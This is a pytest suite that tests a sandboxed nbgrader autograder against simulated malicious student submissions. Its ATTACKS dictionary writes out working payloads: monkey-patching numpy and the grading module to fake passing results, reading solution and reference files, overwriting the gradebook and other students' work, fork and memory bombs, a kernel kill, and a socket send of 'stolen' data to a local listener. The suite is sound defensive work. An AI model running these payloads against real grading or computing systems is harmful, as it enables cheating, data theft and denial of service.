"""The attack suite: one class of ps1_forward graded through the real nbgrader autograde (in
parallel, in the sandbox), with two honest students and one student per attack.

Every attacker leaves the exercises as released (stubs) and adds an attack, so an attack that
gained anything would show as points. For each: no points, nothing of the solutions, the
reference or the graders in any output or feedback, a line in the grading record, and the honest
students, the gradebook and every submission as they should be.
"""

from __future__ import annotations

import json
import os
import socket
import threading

import pytest
from nbgrader.api import Gradebook

from course.exercises import read_assignment
from course.notebooks import fill, read, write
from course.parallel_autograde import autograde_class
from course.report import write_report
from sandbox import METADATA_KEY, jail

from ..course.nbgrader_cli import RELEASE, ROOT, SOURCE, digest, nbgrader, scratch_course

pytestmark = pytest.mark.notebooks

ASSIGNMENT = "ps1_forward"
#: Beside the course folder: the sandbox user ids the class was graded under, one per notebook.
UIDS = "sandbox-uids.txt"
#: Text that must never reach a student: solutions, hidden tests, the reference, the graders.
SECRETS = ("### BEGIN SOLUTION", "### BEGIN HIDDEN TESTS", "computed without overflow for any",
           "def check_sigmoid", "from grading import")

# Each attack is the source of the sigmoid solution cell; {course}, {root} and {port} are
# filled in: the attacker knows where everything is.
ATTACKS = {
    "numpy_patched": """
import numpy as np
np.allclose = lambda *a, **k: True
np.isclose = lambda *a, **k: True
np.array_equal = lambda *a, **k: True
np.testing.assert_allclose = lambda *a, **k: None
np.max = np.min = np.sum = np.mean = lambda *a, **k: 0.0
def sigmoid(z):
    return np.zeros_like(z)
""",
    "graders_replaced": """
import builtins, sys, types
fake = types.ModuleType("grading")
fake.grade = lambda *a, **k: None
fake.grade_parts = lambda *a, points, **k: points
sys.modules["grading"] = fake
builtins.grade, builtins.grade_parts = fake.grade, fake.grade_parts
grade, grade_parts = fake.grade, fake.grade_parts
def sigmoid(z):
    raise NotImplementedError()
""",
    "ipython_patched": """
ip = get_ipython()
ip.set_custom_exc((BaseException,), lambda *a, **k: None)
ip.showtraceback = lambda *a, **k: None
ip.input_transformers_post.append(lambda lines: ["pass\\n"])
""",
    "equal_to_everything": """
class Anything(float):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __getattr__(self, name): return self
    def __array__(self, *a, **k):
        raise TypeError("no")
def sigmoid(z):
    return Anything()
""",
    "reference_when_graded": """
import os, sys
sys.path.insert(0, {root!r})
sys.path.insert(0, {course!r})
def sigmoid(z):
    if os.environ.get("NBGRADER_EXECUTION") or True:
        import reference
        return reference.sigmoid(z)
""",
    "reads_course_files": """
import glob
for pattern in ("{course}/source/**/*.ipynb", "{root}/reference/*.py", "{root}/grading/**/*.py",
                "../../../source/**/*.ipynb", "/proc/1/root/{root}/reference/*.py"):
    for path in glob.glob(pattern, recursive=True):
        try:
            print(open(path).read())
        except Exception as error:
            print("could not read", path, error)
print("seen:", sorted(glob.glob("{root}/*")), sorted(glob.glob("{course}/*")))
""",
    "writes_gradebook_and_others": """
import glob, os
targets = ["{course}/gradebook.db", *glob.glob("{course}/submitted/*/*/*.ipynb"),
           *glob.glob("{course}/autograded/**/*.ipynb", recursive=True)]
for path in targets:
    try:
        with open(path, "w") as file:
            file.write("gone")
        os.remove(path)
    except Exception as error:
        print("could not damage", path, error)
try:
    os.symlink("{course}/gradebook.db", "forward.ipynb.link")
except Exception as error:
    print(error)
""",
    "sys_exit": """
import sys
def sigmoid(z):
    sys.exit(0)
sys.exit(3)
""",
    "os_exit": """
import os
os._exit(0)
""",
    "kills_kernel": """
import os, signal
os.kill(os.getpid(), signal.SIGKILL)
""",
    "infinite_loop": """
def sigmoid(z):
    while True:
        pass
""",
    "memory_bomb": """
import numpy as np
def sigmoid(z):
    return np.ones((10**6, 10**6))
hoard = []
while True:
    hoard.append(np.empty(2**28, dtype=np.uint8))  # address space, untouched: no RAM used
""",
    "fork_bomb": """
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
""",
    "leaves_processes": """
import subprocess
sleepers = [subprocess.Popen(["sleep", "600"]) for _ in range(3)]
""",
    "output_flood": """
import sys
for i in range(300_000):
    print("flood " * 20)
    sys.stderr.write("err " * 20 + "\\n")
""",
    "network": """
import socket
try:
    socket.create_connection(("127.0.0.1", {port}), timeout=3).sendall(b"stolen")
    print("connected")
except OSError as error:
    print("no network:", error)
""",
    "displayhook": """
import sys
import numpy as np
np.allclose = lambda *a, **k: True
def sigmoid(z):
    sys.displayhook("full marks")
    sys.displayhook(1000)
    return np.zeros(np.shape(z))
""",
    "harness_replaced": """
class Nothing:
    def serve(self):
        pass
__grading_harness__ = Nothing()
def sigmoid(z):
    raise NotImplementedError()
""",
}

#: Added after each solution of the noisy honest student.
NOISE = """
import functools, sys, warnings
import matplotlib.pyplot as plt
plt.plot([0, 1], [1, 0])
plt.show()
_quiet_{name} = {name}
@functools.wraps(_quiet_{name})
def {name}(*args, **kwargs):
    print("working on {name}")
    print("a note on stderr", file=sys.stderr)
    warnings.warn("just so you know")
    return _quiet_{name}(*args, **kwargs)
"""

#: Attacks after which nbgrader cannot finish the notebook (the kernel is gone, or went on after
#: its interrupt): it scores 0 and the run's failure table says why.
UNGRADABLE = {"os_exit": "kernel died", "kills_kernel": "kernel died",
              "fork_bomb": "stopped answering after a cell was interrupted"}


def _edited_cells(notebook) -> None:
    """The test cell of sigmoid rewritten to pass, worth 100 points."""
    for cell in notebook.cells:
        grading = cell.metadata.get("nbgrader", {})
        if grading.get("grade_id") == "sigmoid_test":
            cell.source = "print('all tests pass')"
            grading["points"] = 100
            grading["locked"] = False


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    """The class, graded; its course folder, outcomes and the submissions' digests."""
    course = scratch_course(tmp_path_factory.mktemp("attacks"), [ASSIGNMENT])
    assert nbgrader("generate_assignment", ASSIGNMENT, "--force", cwd=course).returncode == 0
    (plan,) = read_assignment(SOURCE, ASSIGNMENT)
    released = RELEASE / ASSIGNMENT / plan.notebook
    listener = socket.create_server(("127.0.0.1", 0))
    port = listener.getsockname()[1]
    connections: list[object] = []
    threading.Thread(target=lambda: connections.append(listener.accept()), daemon=True).start()

    def submit(student: str, edit) -> None:
        notebook = read(str(released))
        edit(notebook)
        folder = course / "submitted" / student / ASSIGNMENT
        folder.mkdir(parents=True)
        write(notebook, str(folder / plan.notebook))

    def honest(notebook, noisy: bool = False) -> None:
        for target, solution in plan.solutions.items():
            if noisy:  # the same solution, talking, warning and plotting as it works
                solution += NOISE.format(name=target)
            fill(notebook, target, solution)

    submit("honest", honest)
    submit("honest_noisy", lambda nb: honest(nb, noisy=True))
    for name, attack in ATTACKS.items():
        source = attack.format(course=str(course), root=str(ROOT), port=port)
        submit(name, lambda nb, s=source: fill(nb, "sigmoid", s))
    submit("edits_cells", _edited_cells)
    before = digest(course / "submitted")
    uids = course.parent / UIDS
    choose_uid = jail.sandbox_uid

    def recorded_uid() -> int:  # called in the grading workers, forked from this process
        uid = choose_uid()
        with uids.open("a") as record:
            record.write(f"{uid}\n")
        return uid

    os.environ["BACKPROP_CELL_TIMEOUT"] = "8"
    try:
        with pytest.MonkeyPatch.context() as patch:
            patch.setattr(jail, "sandbox_uid", recorded_uid)
            outcomes = {o.student: o for o in autograde_class(
                course, ASSIGNMENT, workers=2, student_timeout=300, progress=None)}
    finally:
        del os.environ["BACKPROP_CELL_TIMEOUT"]
    listener.close()
    yield course, outcomes, before, connections


def _score(course, student):
    with Gradebook(f"sqlite:///{course / 'gradebook.db'}") as gradebook:
        return gradebook.find_submission(ASSIGNMENT, student).score


def _graded_notebook(course, student):
    path = course / "autograded" / student / ASSIGNMENT / "forward.ipynb"
    return json.loads(path.read_text()) if path.exists() else None


def _outputs(notebook) -> str:
    return json.dumps([cell.get("outputs", []) for cell in notebook["cells"]])


def test_the_class_was_graded_in_bubblewrap(graded):
    course, outcomes, _, _ = graded
    assert jail.bubblewrap_works(), "make test installs bubblewrap; it must work here"
    modes = {(_graded_notebook(course, s) or {}).get("metadata", {}).get(METADATA_KEY, {})
             .get("sandbox") for s in outcomes if s not in UNGRADABLE}
    assert modes == {"bubblewrap"}


def test_honest_students_get_full_marks_even_when_they_print_and_warn(graded):
    course, outcomes, _, _ = graded
    assert outcomes["honest"].status == outcomes["honest_noisy"].status == "graded"
    assert _score(course, "honest") == _score(course, "honest_noisy") == 30.0


@pytest.mark.parametrize("attack", [*ATTACKS, "edits_cells"])
def test_the_attack_gains_nothing(graded, attack):
    course, outcomes, _, _ = graded
    if attack in UNGRADABLE:
        assert outcomes[attack].status == "failed"
        assert outcomes[attack].reason
        return
    assert outcomes[attack].status == "graded", outcomes[attack].reason
    assert _score(course, attack) == 0.0


@pytest.mark.parametrize("attack", [*ATTACKS, "edits_cells"])
def test_nothing_secret_reaches_the_attackers_outputs(graded, attack):
    course, _, _, _ = graded
    notebook = _graded_notebook(course, attack)
    if notebook is None:
        return  # nothing was graded, so nothing was written
    outputs = _outputs(notebook)
    for secret in SECRETS:
        assert secret not in outputs
    assert len(outputs) < 2_000_000, "the output was not capped"


def test_feedback_reveals_nothing(graded):
    course, outcomes, _, _ = graded
    done = nbgrader("generate_feedback", ASSIGNMENT, "--force", cwd=course)
    assert done.returncode == 0, done.stderr[-2000:]
    pages = list((course / "feedback").rglob("*.html"))
    assert len(pages) == sum(o.status == "graded" for o in outcomes.values())
    for page in pages:
        text = page.read_text()
        for secret in SECRETS:
            assert secret not in text, (page, secret)


@pytest.mark.parametrize(("attack", "words"), [
    ("infinite_loop", "time limit"), ("memory_bomb", "out of memory"),
    ("output_flood", "output cut"), ("leaves_processes", "killed 3 processes"),
    ("ipython_patched", "cut grading off from the kernel"),
    ("harness_replaced", "grading lost its connection"),
    ("displayhook", "displayed in a test cell was ignored"),
])
def test_the_grading_record_names_what_happened(graded, attack, words):
    course, _, _, _ = graded
    incidents = _graded_notebook(course, attack)["metadata"][METADATA_KEY]["incidents"]
    assert any(words in line for line in incidents), incidents


def test_ungradable_attacks_are_reported_with_their_reason(graded):
    _, outcomes, _, _ = graded
    for attack, words in UNGRADABLE.items():
        assert words in outcomes[attack].reason, outcomes[attack].reason


def test_no_connection_left_the_sandbox(graded):
    _, _, _, connections = graded
    assert connections == []


def test_gradebook_and_submissions_are_intact(graded):
    course, outcomes, before, _ = graded
    assert digest(course / "submitted") == before
    with Gradebook(f"sqlite:///{course / 'gradebook.db'}") as gradebook:
        graded_students = {s.student.id for s in gradebook.assignment_submissions(ASSIGNMENT)}
    assert {s for s, o in outcomes.items() if o.status == "graded"} <= graded_students
    assert not list((course / "autograded").rglob("*.link"))


def test_the_sandbox_leaves_no_process_behind(graded):
    """No process of the sandbox users this class was graded under outlives the grading (fork
    bombs included). Only those users: tests on other pytest workers grade at the same time."""
    used = {int(uid) for uid in (graded[0].parent / UIDS).read_text().split()}
    assert used and min(used) >= jail.FIRST_UID
    leftovers = [pid for pid in os.listdir("/proc") if pid.isdigit() and _uid(pid) in used]
    assert leftovers == []


def _uid(pid: str) -> int | None:
    try:
        with open(f"/proc/{pid}/status") as status:
            return next(int(line.split()[1]) for line in status if line.startswith("Uid:"))
    except (OSError, StopIteration):
        return None



def test_the_class_report_names_the_sandbox_and_each_attacker(graded):
    course, outcomes, _, _ = graded
    page = write_report(course, [ASSIGNMENT], outcomes={ASSIGNMENT: list(outcomes.values())})
    text = page.read_text()
    assert "in the <b>bubblewrap</b> mode" in text and "Weaker confinement" not in text
    for attack in ("infinite_loop", "memory_bomb", "output_flood", "displayhook",
                   "harness_replaced", *UNGRADABLE):
        assert f"<td>{attack}</td>" in text, attack


def test_without_bubblewrap_the_weaker_mode_grades_and_says_so(tmp_path):
    """BACKPROP_SANDBOX=process: scores still computed outside the kernel (the numpy attack
    gains nothing), and the report warns that the machine's files were readable."""
    course = scratch_course(tmp_path, [ASSIGNMENT])
    assert nbgrader("generate_assignment", ASSIGNMENT, "--force", cwd=course).returncode == 0
    (plan,) = read_assignment(SOURCE, ASSIGNMENT)
    for student, cells in (("honest", plan.solutions),
                           ("numpy_patched", {"sigmoid": ATTACKS["numpy_patched"]})):
        notebook = read(str(RELEASE / ASSIGNMENT / plan.notebook))
        for target, source in cells.items():
            fill(notebook, target, source)
        folder = course / "submitted" / student / ASSIGNMENT
        folder.mkdir(parents=True)
        write(notebook, str(folder / plan.notebook))
    os.environ["BACKPROP_SANDBOX"] = "process"
    try:
        outcomes = autograde_class(course, ASSIGNMENT, workers=2, progress=None)
    finally:
        del os.environ["BACKPROP_SANDBOX"]
    assert all(o.status == "graded" for o in outcomes)
    assert _score(course, "honest") == 30.0 and _score(course, "numpy_patched") == 0.0
    assert _graded_notebook(course, "honest")["metadata"][METADATA_KEY]["sandbox"] == "process"
    text = write_report(course, [ASSIGNMENT]).read_text()
    assert "in the <b>process</b> mode" in text and "Weaker confinement" in text
